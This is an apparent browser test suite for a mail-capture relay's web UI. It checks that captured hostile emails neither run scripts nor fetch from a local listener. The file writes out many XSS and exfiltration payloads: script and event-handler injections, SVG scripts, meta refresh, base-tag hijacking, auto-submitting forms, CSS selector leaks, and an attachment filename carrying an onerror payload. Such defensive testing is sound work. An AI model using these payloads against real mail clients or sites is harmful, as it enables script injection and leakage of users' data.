/**
 * Mail that wants to run, to fetch or to lead away, opened in a browser: on the page of a message, and in the inbox of a relay that captures.
 * Whatever it asks for would come to a listener of the test.
 */
import assert from 'node:assert/strict'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { after, before, suite, test } from 'node:test'
import { openUsers, resolveRelayOptions } from '@postrider/relay'
import type { Browser, Page } from 'playwright-core'
import { type InboxWorld, startInboxWorld } from '../inbox/world.ts'
import { startBrowser, watch } from './browser.ts'
import { openWeb } from './world.ts'

/** Hears whoever connects, and what is asked for. */
async function listenForFetches() {
  const asked: string[] = []
  let connections = 0
  const server: Server = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.writeHead(200, { 'content-type': 'image/gif', 'access-control-allow-origin': '*' })
    response.end(Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'))
  })
  server.on('connection', () => connections++)
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    asked,
    connections: () => connections,
    close: () => server.close(),
  }
}

/** @param at where they would fetch from */
const hostile = (at: string): Readonly<Record<string, string>> => ({
  script: `<script>top.document.title='owned';fetch('${at}/script')</script><script src="${at}/s.js"></script>
<body onload="alert(1)"><img src=x onerror="alert(2)"><a href="javascript:alert(3)" autofocus onfocus="alert(4)">x</a>`,
  svg: `<svg onload="alert(1)"><script href="${at}/svg.js"/><image href="${at}/svg-image"/><use href="${at}/use#x"/>
<animate onbegin="alert(1)" attributeName=x dur=1s></animate><foreignObject><iframe src="${at}/fo"></iframe></foreignObject></svg>`,
  refresh: `<meta http-equiv="refresh" content="0;url=${at}/refresh"><meta http-equiv=x-dns-prefetch-control content=on>`,
  base: `<base href="${at}/"><img src="based"><a href="x">y</a><link rel="stylesheet" href="${at}/base.css">`,
  form: `<form action="${at}/form" target="_top"><input name=q value=1 autofocus><button id=b>x</button></form><script>document.forms[0].submit()</script>`,
  css: `<style>@import url(${at}/import.css); @font-face{font-family:f;src:url(${at}/font.woff2)} *{font-family:f}
input[value^=a]{background:url(${at}/leak-a)} body{background:url(${at}/bg)} body::before{content:url(${at}/content)} li{list-style-image:url(${at}/li);cursor:url(${at}/cursor),auto}</style>
<input value=abc><ul><li style="background-image:image-set('${at}/set' 1x)">x</ul><p style="mask-image:url(${at}/mask)">y</p>`,
  links: `<link rel=preconnect href="${at}"><LINK rel="dns-prefetch preconnect" href="${at}"><link
rel=prefetch href="${at}/prefetch"><link rel=preload as=image href="${at}/preload"><link rel=modulepreload href="${at}/mod"><link rel=prerender href="${at}/pre"><link/rel=preconnect href=${at}><link rel="icon" href="${at}/icon"><link rel=manifest href="${at}/manifest">`,
  frames: `<iframe src="${at}/iframe"></iframe><iframe srcdoc="<script>top.document.title='owned'</script><img src='${at}/srcdoc'>"></iframe>
<object data="${at}/object"></object><embed src="${at}/embed"><frame src="${at}/frame"><portal src="${at}/portal"></portal>`,
  media: `<video autoplay poster="${at}/poster" src="${at}/video"></video><audio autoplay src="${at}/audio"></audio>
<picture><source srcset="${at}/srcset"><img src="${at}/picture" srcset="${at}/2x 2x"></picture><table background="${at}/table"><tr><td>x</table><input type=image src="${at}/input">
<a href="${at}/ping" ping="${at}/pinged" attributionsrc="${at}/attr">z</a>`,
  unclosed: `<!-- <img src="${at}/comment"><style><plaintext><textarea><title></title><img src=${at}/unclosed`,
})

function mimeOf(html: string, subject: string): Buffer {
  // Nested: alternative in related in mixed, with a message inside the message and a part that lies about its type.
  return Buffer.from(
    [
      'From: Evil <evil@example.com>',
      'To: anna@example.com',
      `Subject: ${subject}`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=m',
      '',
      '--m',
      'Content-Type: multipart/related; boundary=r',
      '',
      '--r',
      'Content-Type: multipart/alternative; boundary=a',
      '',
      '--a',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'text',
      '--a',
      'Content-Type: text/html; charset=utf-8',
      '',
      html,
      '--a--',
      '--r',
      'Content-Type: image/svg+xml',
      'Content-ID: <svg@x>',
      '',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      '--r--',
      '--m',
      'Content-Type: message/rfc822',
      '',
      'From: a@b.example\r\nSubject: inner\r\nContent-Type: text/html\r\n\r\n<script>alert(5)</script>',
      '--m',
      'Content-Type: text/html; name="<img src=x onerror=alert(6)>.html"',
      'Content-Disposition: attachment; filename="<img src=x onerror=alert(6)>.html"',
      '',
      '<script>alert(7)</script>',
      '--m--',
      '',
    ].join('\r\n'),
  )
}

/** A policy that refuses is what is wanted here, and said in the console; what was asked in spite of it is heard by the listener. */
const isPolicy = (fault: string): boolean =>
  /Content.Security.Policy|sandbox|Refused to|Blocked script|Unsafe attempt|violates|^asked: /i.test(fault)

/** Everything that is loaded ahead, or late, has been. */
async function settle(page: Page): Promise<void> {
  for (const frame of page.frames()) await frame.waitForLoadState('load')
  await page.waitForTimeout(400)
}

/** What messages say may be read by who is let to on the host. */
async function letRead(folder: string): Promise<void> {
  const config = await resolveRelayOptions({
    hostname: 'mail.abc.mail',
    queue: { path: join(folder, 'queue.db') },
    relay: { accounts: [], folder },
  })
  const { users, close } = await openUsers(config)
  await users.change('admin', { content: true })
  await close()
}

/** Of a pixel within a picture. */
async function colourIn(page: Page, png: Buffer): Promise<string> {
  const data = `data:image/png;base64,${png.toString('base64')}`
  return String(
    await page.evaluate(`new Promise(resolve => {
      const image = new Image()
      image.onload = () => {
        const context = new OffscreenCanvas(image.width, image.height).getContext('2d')
        context.drawImage(image, 0, 0)
        resolve([...context.getImageData(image.width >> 1, image.height >> 1, 1, 1).data].slice(0, 3).join(','))
      }
      image.src = ${JSON.stringify(data)}
    })`),
  )
}

suite('hostile mail', () => {
  let browser: Browser
  let fetches: Awaited<ReturnType<typeof listenForFetches>>
  let world: InboxWorld
  before(async () => {
    browser = await startBrowser()
    fetches = await listenForFetches()
    world = await startInboxWorld()
  })
  after(async () => {
    await browser.close()
    fetches.close()
    await world[Symbol.asyncDispose]()
  })

  const capture = async (html: string, subject: string): Promise<string> => {
    const to = 'anna@example.com'
    const { id } = await world.relay.mailer.accept(mimeOf(html, subject), { from: 'evil@example.com', to: [to] })
    const { status } = await world.ask('GET', `/v1/inbox/wait?to=${to}&subject=${subject}`)
    assert.equal(status, 200)
    return id
  }

  test('of every kind runs nothing and fetches nothing, in the page and by itself', async () => {
    let refused = 0
    for (const [name, html] of Object.entries(hostile(fetches.url))) {
      const { page, context, faults } = await watch(browser, world.url)
      const id = await capture(html, `hostile-${name}`)
      await page.goto(`${world.url}/ui/#/inbox/${id}`)
      await page.locator('iframe').waitFor()
      for (const look of ['Dark', 'Inverted']) {
        await page.getByRole('button', { name: look, exact: true }).click()
        await settle(page)
      }
      await page
        .frameLocator('iframe')
        .locator('body')
        .click({ position: { x: 5, y: 5 }, force: true })
      assert.equal(await page.title(), 'Captured message · Postrider', name)
      assert.equal(new URL(page.url()).hash, `#/inbox/${id}`, name)
      for (const side of ['Text', 'Attachments', 'Links', 'Headers', 'What receivers may mind', 'Raw']) {
        const button = page.getByRole('button', { name: new RegExp(`^${side}`) })
        if ((await button.count()) > 0) await button.click()
        assert.equal(await page.locator('main img, main script, main svg').count(), 0, `${name}: ${side}`)
      }
      // Opened by itself, as from a bookmark.
      await page.goto(`${world.url}/v1/inbox/${id}/html`)
      await settle(page)
      assert.equal(new URL(page.url()).pathname, `/v1/inbox/${id}/html`, name)
      refused += faults.filter(isPolicy).length
      assert.deepEqual(
        faults.filter(fault => !isPolicy(fault)),
        [],
        name,
      )
      assert.deepEqual([fetches.connections(), fetches.asked], [0, []], name)
      await context.close()
    }
    assert.ok(refused > 20, `they tried: ${refused}`)
  })

  test('has its images fetched when somebody asks for them, and nothing else', async () => {
    const { page, context } = await watch(browser, world.url)
    const at = fetches.url
    const id = await capture(
      `<img src="${at}/wanted">${hostile(at).css}${hostile(at).script}${hostile(at).links}${hostile(at).frames}`,
      'remote',
    )
    await page.goto(`${world.url}/ui/#/inbox/${id}`)
    await page.locator('iframe').waitFor()
    await settle(page)
    assert.equal(fetches.asked.length, 0)
    const loaded = page.waitForRequest(`${at}/wanted`)
    await page.getByRole('button', { name: 'Load remote images' }).click()
    await loaded
    await settle(page)
    assert.ok(fetches.asked.some(path => path === '/wanted'))
    const others = fetches.asked.filter(
      path => !/^\/(?:wanted|bg|content|li|set|mask|leak-a|cursor|srcdoc)$/.test(path),
    )
    assert.deepEqual(others, [])
    await context.close()
  })

  test('that is asked for its colours is shown light, dark and inverted, as wide as a telephone', async () => {
    const { page, context } = await watch(browser, world.url)
    const html = `<style>body{background:#0a6428}@media (prefers-color-scheme:dark){body{background:#641e0a}}</style>`
    const id = await capture(html, 'colours')
    await page.goto(`${world.url}/ui/#/inbox/${id}`)
    const frame = page.locator('iframe')
    await frame.waitFor()
    const colour = async (look: string): Promise<string> => {
      await page.getByRole('button', { name: look, exact: true }).click()
      await settle(page)
      return colourIn(page, await frame.screenshot())
    }
    assert.equal(await colour('Light'), '10,100,40')
    assert.equal(await colour('Dark'), '100,30,10')
    const [red = 0, green = 0] = (await colour('Inverted')).split(',').map(Number)
    // Still a green, and as light as it was dark.
    assert.ok(green > red && green > 180, `${red}, ${green}`)
    await page.getByRole('button', { name: 'Phone', exact: true }).click()
    assert.equal(await page.evaluate(`document.querySelector('iframe').clientWidth`), 375)
    await context.close()
  })

  test('is kept in the same sandbox on the page of a message', async () => {
    const at = fetches.url
    const before = fetches.connections()
    await using web = await openWeb({ options: { queue: { keepContentMs: 3_600_000 } } })
    const html = Object.values(hostile(at)).slice(0, -1).join('\n')
    const id = await web.town.send({ to: 'bruno@gmail.com', subject: 'kept', html })
    await web.town.relay.mailer.idle()
    await letRead(web.town.folder)
    await web.open(`#/messages/${id}`)
    await web.page.getByRole('button', { name: 'Show what it says' }).click()
    await web.page.locator('iframe').waitFor()
    await settle(web.page)
    assert.equal(await web.page.title(), 'Message · Postrider')
    assert.equal(fetches.connections(), before)
  })
})
